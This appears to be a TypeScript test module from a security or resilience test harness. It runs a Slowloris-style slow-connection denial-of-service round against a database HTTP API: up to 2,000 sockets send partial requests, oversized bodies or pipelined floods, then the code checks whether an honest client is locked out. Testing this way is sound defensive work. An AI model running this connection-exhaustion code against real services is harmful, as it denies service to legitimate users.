import { readFileSync } from 'node:fs';
import type { Socket } from 'node:net';
import { attackerAddress } from '../http-call.ts';
import type { Round } from '../Round.ts';
import { pause } from '../RoundContext.ts';
import { openSocket } from '../raw-exchange.ts';
import { victimPath } from '../Target.ts';

const fullCount = 2000;

const round: Round = {
  id: 'slow-connections',
  attacks: '2,000 connections that send a letter a second, or do not read their answers',
  order: 140,
  async run(context) {
    const count = Math.min(context.amount(fullCount, 100), Math.floor(maxOpenFiles() / 3));
    const { authorization = '' } = context.target.headersOf('guest-rw');
    const starts = [
      () => 'G',
      () => 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ',
      () =>
        `POST ${victimPath}/_api/document/scratch HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: ${authorization}\r\nContent-Length: 5000000\r\n\r\n{"a":"`,
      () =>
        `POST ${victimPath}/_api/import?collection=scratch&type=documents HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: ${authorization}\r\nContent-Length: 5000000\r\n\r\n{"a":"`,
      () =>
        `GET ${victimPath}/_api/version HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: ${authorization}\r\n\r\n`.repeat(
          300,
        ),
    ];
    const sockets: Socket[] = [];
    let refused = 0;
    for (let number = 0; number < count; number++) {
      const socket = openSocket(context.target.baseUrl, attackerAddress(number % 4));
      socket.on('error', () => {
        refused++;
        socket.destroy();
      });
      // Every third connection reads nothing.
      if (number % 3 !== 0) socket.resume();
      socket.write(context.pick(starts)());
      sockets.push(socket);
      if (number % 100 === 99) await pause(20);
    }
    for (let second = 0; second < context.amount(10, 2); second++) {
      await pause(1000);
      for (const socket of sockets) if (!socket.destroyed && !socket.writableNeedDrain) socket.write('a');
    }
    const open = sockets.filter(({ destroyed }) => !destroyed).length;
    context.note(`${open} of ${count} connections still open, ${refused} refused`);
    for (const socket of sockets) socket.destroy();
    const { status } = await context.call(
      { path: '/_db/honest/_api/version', localAddress: undefined },
      'honest',
    );
    if (status !== 200) context.find('others are locked out', String(status));
  },
};
export default round;

function maxOpenFiles(): number {
  try {
    const limits = readFileSync('/proc/self/limits', 'utf8');
    return Number(/^Max open files\s+(\d+)/m.exec(limits)?.[1] ?? 1024);
  } catch {
    return 1024;
  }
}
